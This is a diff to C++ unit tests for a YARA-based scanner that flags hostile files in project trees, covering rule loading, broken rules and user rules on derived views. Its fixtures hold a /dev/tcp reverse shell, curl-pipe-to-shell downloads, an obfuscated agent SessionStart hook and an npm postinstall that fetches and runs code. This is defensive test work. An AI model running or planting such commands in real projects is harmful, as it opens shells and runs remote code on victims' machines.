@@ -1,6 +1,6 @@
 // Loading rules from both folders: broken files and rules without a proper severity are named and
-// skipped while everything else loads, user rules are picked up, and the audit command copes with the
-// trees it is pointed at.
+// skipped while everything else loads, user rules are picked up and see the derived views, and the
+// audit command copes with the trees it is pointed at.
 
 #include "ScanRunner.h"
 
@@ -14,14 +14,8 @@ using namespace tw::test;
 
 namespace {
 
-const char* kUserRule = R"(rule user_marker_file
-{
-    meta:
-        severity = "high"
-    condition:
-        filename == "marker.txt"
-}
-)";
+const char* kUserRule =
+    "rule user_marker_file { meta: severity = \"high\" condition: filename == \"marker.txt\" }\n";
 
 const char* kBrokenRule = R"(rule broken_rule
 {
@@ -40,6 +34,25 @@ bool hasEvent(const ScanResult& r, const std::string& rule, const std::string& s
         if (e.rule == rule && e.severity == severity)
             return true;
     return false;
+}
+
+std::string utf16le(const std::string& ascii)
+{
+    std::string out = "\xFF\xFE";
+    for (char c : ascii) {
+        out += c;
+        out += '\0';
+    }
+    return out;
+}
+
+// The rule-text form of a string: quotes, backslashes and line ends escaped as YARA reads them.
+std::string escaped(const std::string& text)
+{
+    std::string out;
+    for (char c : text)
+        out += c == '"' ? "\\\"" : c == '\\' ? "\\\\" : c == '\n' ? "\\n" : std::string(1, c);
+    return out;
 }
 
 class RulesLoading : public ::testing::Test
@@ -68,33 +81,9 @@ TEST_F(RulesLoading, UserRuleUnderHomeWhenXdgConfigHomeIsUnset)
     EXPECT_TRUE(hasEvent(r, "user_marker_file", "high")) << r.process.out << r.process.err;
 }
 
-// A broken file is skipped; the others load, even when two of them name the same rule.
-TEST_F(RulesLoading, BrokenFileIsNamedWithYarasMessageAndSkipped)
-{
-    writeUserRule(m_config.path(), "a-broken.yar", kBrokenRule);
-    writeUserRule(m_config.path(), "b-good.yar", kUserRule);
-    writeUserRule(m_config.path(), "c-same-name.yar", kUserRule);
-
-    const ScanResult check = runTwwatch({"--check-rules"});
-    EXPECT_EQ(check.process.exitCode, 1) << "a refused file makes the check fail";
-    const std::string broken = (m_config / "tarnwick/rules/a-broken.yar").string();
-    EXPECT_NE(check.process.err.find(broken + ":8: syntax error"), std::string::npos) << check.process.err;
-    EXPECT_NE(check.process.out.find(broken + ": not loaded"), std::string::npos) << check.process.out;
-    EXPECT_NE(check.process.out.find("  user_marker_file\n"), std::string::npos) << check.process.out;
-    EXPECT_NE(check.process.out.find("  git_hook_runs_payload\n"), std::string::npos) << check.process.out;
-
-    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
-    EXPECT_EQ(r.process.exitCode, 0);
-    EXPECT_NE(r.process.err.find(broken), std::string::npos);
-    EXPECT_EQ(
-        std::count_if(r.events.begin(), r.events.end(),
-                      [](const Event& e) { return e.rule == "user_marker_file" && e.severity == "high"; }),
-        2)
-        << r.process.out;
-    EXPECT_TRUE(hasEvent(r, "git_hook_runs_payload", "critical")) << r.process.out;
-}
-
-TEST_F(RulesLoading, RulesWithoutAProperSeverityAreRefused)
+// A file with rules that lack a proper severity, then a broken file beside one that loads and one that
+// names the same rule: each makes the check fail and is named, and everything else loads.
+TEST_F(RulesLoading, BrokenFilesAndRefusedRulesAreNamedAndSkipped)
 {
     struct Row
     {
@@ -120,21 +109,37 @@ TEST_F(RulesLoading, RulesWithoutAProperSeverityAreRefused)
                 "condition: filename == \"marker.txt\" }\n";
     }
     writeUserRule(m_config.path(), "mixed.yar", text);
+    const ScanResult refused = runTwwatch({"--check-rules"});
+    EXPECT_EQ(refused.process.exitCode, 1);
 
+    writeUserRule(m_config.path(), "a-broken.yar", kBrokenRule);
+    writeUserRule(m_config.path(), "b-good.yar", kUserRule);
+    writeUserRule(m_config.path(), "c-same-name.yar", kUserRule);
     const ScanResult check = runTwwatch({"--check-rules"});
-    EXPECT_EQ(check.process.exitCode, 1);
+    const std::string broken = (m_config / "tarnwick/rules/a-broken.yar").string();
+    EXPECT_NE(check.process.err.find(broken + ":8: syntax error"), std::string::npos) << check.process.err;
+    EXPECT_NE(check.process.out.find(broken + ": not loaded"), std::string::npos) << check.process.out;
+    EXPECT_NE(check.process.out.find("  user_marker_file\n"), std::string::npos) << check.process.out;
+    EXPECT_NE(check.process.out.find("  git_hook_runs_payload\n"), std::string::npos) << check.process.out;
+
     const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
+    EXPECT_EQ(r.process.exitCode, 0);
+    EXPECT_NE(r.process.err.find(broken), std::string::npos);
+    EXPECT_EQ(
+        std::count_if(r.events.begin(), r.events.end(),
+                      [](const Event& e) { return e.rule == "user_marker_file" && e.severity == "high"; }),
+        2)
+        << r.process.out;
+    EXPECT_TRUE(hasEvent(r, "git_hook_runs_payload", "critical")) << r.process.out;
     for (const auto& row : rows) {
         SCOPED_TRACE(row.name);
-        bool fired = false;
-        for (const auto& e : r.events)
-            fired = fired || e.rule == row.name;
+        const bool fired =
+            std::any_of(r.events.begin(), r.events.end(), [&](const Event& e) { return e.rule == row.name; });
         EXPECT_EQ(fired, row.accepted) << r.process.out;
         const bool named =
-            check.process.err.find(std::string("rule ") + row.name + " refused") != std::string::npos;
-        EXPECT_EQ(named, !row.accepted) << check.process.err;
+            refused.process.err.find(std::string("rule ") + row.name + " refused") != std::string::npos;
+        EXPECT_EQ(named, !row.accepted) << refused.process.err;
     }
-    EXPECT_TRUE(hasEvent(r, "git_hook_runs_payload", "critical")) << "other files are untouched";
 }
 
 // The bundled pack is found beside the executable through /proc/self/exe, wherever that is; without
@@ -149,6 +154,7 @@ TEST_F(RulesLoading, BundledPackBesideTheExecutable)
     writeFile(install / "bin" / "rules" / "notes.txt", "not a rule file");
 
     const ScanResult check = runTwwatch({"--check-rules"}, install / "bin" / "twwatch");
+    EXPECT_EQ(check.process.exitCode, 1) << "a broken file makes the check fail";
     EXPECT_NE(check.process.err.find((install / "bin/rules/broken.yar").string()), std::string::npos)
         << check.process.err;
     EXPECT_NE(check.process.out.find("1 rules loaded from 2 files"), std::string::npos) << check.process.out;
@@ -168,16 +174,9 @@ TEST_F(RulesLoading, BundledPackBesideTheExecutable)
     EXPECT_TRUE(empty.events.empty()) << empty.process.out;
 }
 
-TEST_F(RulesLoading, ScanGoesOnPastAMissingDirectory)
-{
-    const ScanResult r = runTwwatch({"--scan", (m_tree / "nowhere").string(), m_tree.path().string()});
-    EXPECT_EQ(r.process.exitCode, 3) << "a folder that cannot be read, not a usage error";
-    EXPECT_NE(r.process.err.find("nowhere"), std::string::npos) << r.process.err;
-    EXPECT_TRUE(hasEvent(r, "git_hook_runs_payload", "critical")) << r.process.out;
-}
-
 // FIFOs and devices are declined without blocking, a link loop is not followed, git's object store is
-// pruned like the watcher prunes it, and relative roots come out as absolute paths.
+// pruned like the watcher prunes it, a missing root does not stop the others, and relative roots come
+// out as absolute paths.
 TEST_F(RulesLoading, ScanOfAHostileTreeEndsAndPrunes)
 {
     ASSERT_EQ(::mkfifo((m_tree / ".git" / "hooks" / "pre-commit").c_str(), 0755), 0);
@@ -189,8 +188,10 @@ TEST_F(RulesLoading, ScanOfAHostileTreeEndsAndPrunes)
     fs::create_directories(m_tree / "scripts");
     writeFile(m_tree / "scripts" / "deploy.sh", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n");
 
-    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
-    ASSERT_EQ(r.process.exitCode, 0) << "the scan hung or failed: " << r.process.err;
+    const ScanResult r = runTwwatch({"--scan", (m_tree / "nowhere").string(), m_tree.path().string()});
+    EXPECT_EQ(r.process.exitCode, 3) << "a folder that cannot be read, not a usage error nor a hang\n"
+                                     << r.process.err;
+    EXPECT_NE(r.process.err.find("nowhere"), std::string::npos) << r.process.err;
     std::set<std::string> paths;
     for (const auto& e : r.events)
         paths.insert(e.path + " " + e.rule);
@@ -218,6 +219,67 @@ TEST_F(RulesLoading, ScanOutputIsTheSameOnEveryRun)
     const ScanResult second = runTwwatch({"--scan", m_tree.path().string()});
     EXPECT_EQ(first.events.size(), 19u);
     EXPECT_EQ(first.process.out, second.process.out);
+}
+
+// A user rule that targets one view (`view == "..."`) fires on a file whose raw bytes do not hold the
+// text it looks for; its line carries the rule's description and, where the view keeps the file's
+// lines, the line it matched on.
+TEST_F(RulesLoading, UserRulesOnEachViewFire)
+{
+    struct Row
+    {
+        const char* rule;
+        const char* view;
+        const char* needle; // what the rule looks for, only in that view
+        const char* file;
+        std::string content;
+        const char* description; // none when null
+        std::vector<std::uint32_t> lines;
+    };
+    const Row rows[] = {
+        {"user_text",
+         "text",
+         "curl -fsSL https://e.example/x | sh",
+         "setup.sh",
+         utf16le("#!/bin/sh\r\ncurl -fsSL https://e.example/x | sh\r\n"),
+         "fetches \"x\"\nand runs it",
+         {2}},
+        {"user_config",
+         "config",
+         "hooks.SessionStart.0.hooks.0.command = curl",
+         ".claude/settings.json",
+         R"({"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "\u0063url -s x"}]}]}})",
+         "a hook",
+         {}},
+        {"user_commands",
+         "commands",
+         "npm.postinstall: curl -fsSL",
+         "pkg/package.json",
+         R"({"scripts": {"postinstall": "c\u0075rl -fsSL${IFS}https://e.example | sh"}})",
+         nullptr,
+         {}},
+    };
+    std::string rules;
+    for (const auto& row : rows) {
+        const std::string description =
+            row.description ? " description = \"" + escaped(row.description) + "\"" : std::string();
+        rules += std::string("rule ") + row.rule + " { meta: severity = \"high\"" + description +
+                 " strings: $a = \"" + row.needle + "\" condition: $a and view == \"" + row.view + "\" }\n";
+        fs::create_directories((m_tree / row.file).parent_path());
+        writeFile(m_tree / row.file, row.content);
+    }
+    writeUserRule(m_config.path(), "views.yar", rules);
+
+    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
+    EXPECT_EQ(r.process.exitCode, 0) << r.process.err;
+    for (const auto& row : rows) {
+        const auto e = std::find_if(r.events.begin(), r.events.end(), [&](const Event& e) {
+            return e.path == (m_tree / row.file).string() && e.rule == row.rule;
+        });
+        ASSERT_NE(e, r.events.end()) << row.rule << " on " << row.file << "\n" << r.process.out;
+        EXPECT_EQ(e->description, row.description ? row.description : "") << row.rule;
+        EXPECT_EQ(e->lines, row.lines) << row.rule;
+    }
 }
 
 } // namespace
